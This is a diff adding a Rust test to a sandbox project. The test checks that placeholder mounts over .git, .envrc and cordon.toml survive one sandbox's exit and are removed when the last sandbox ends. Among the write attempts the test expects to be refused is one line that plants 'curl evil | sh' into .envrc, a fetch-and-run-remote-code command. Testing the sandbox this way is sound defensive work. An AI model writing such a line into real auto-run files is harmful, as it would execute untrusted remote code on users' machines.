@@ -2787,3 +2787,34 @@ async fn writable_roots_are_mounted_nosuid_and_nodev_inside() {
     })
     .await
 }
+
+#[tokio::test]
+async fn a_placeholder_shared_by_two_sandboxes_holds_until_the_last_is_gone() {
+    bounded("test", async {
+        let test = "a_placeholder_shared_by_two_sandboxes_holds_until_the_last_is_gone";
+        let dirs = Dirs::new();
+        // One left behind by a sandbox whose supervisor was killed.
+        fs::create_dir(dirs.workspace.join(".envrc")).unwrap();
+        fs::set_permissions(dirs.workspace.join(".envrc"), fs::Permissions::from_mode(0o1555)).unwrap();
+        let Some(first) = confined(test, dirs.policy()).await else { return };
+        let Some(second) = confined(test, dirs.policy()).await else { return };
+        end(first).await;
+        // The first one's end took nothing from the second.
+        let runner = second.info().pid;
+        for name in [".git", ".envrc", "cordon.toml"] {
+            assert!(is_mount_point(&mountinfo(runner), &dirs.workspace.join(name)), "{name} is still held");
+        }
+        for script in ["mkdir .git/hooks", "echo 'curl evil | sh' > .envrc", "echo x > cordon.toml"] {
+            let out = second.run(dirs.sh(script)).await.unwrap();
+            assert_refused(&out, &[EROFS, "Is a directory"]);
+        }
+        end(second).await;
+        // The last one out removed them all, the stale one included.
+        let left: Vec<String> = fs::read_dir(&dirs.workspace)
+            .unwrap()
+            .map(|e| e.unwrap().file_name().to_string_lossy().into())
+            .collect();
+        assert!(left.is_empty(), "left behind: {left:?}");
+    })
+    .await
+}
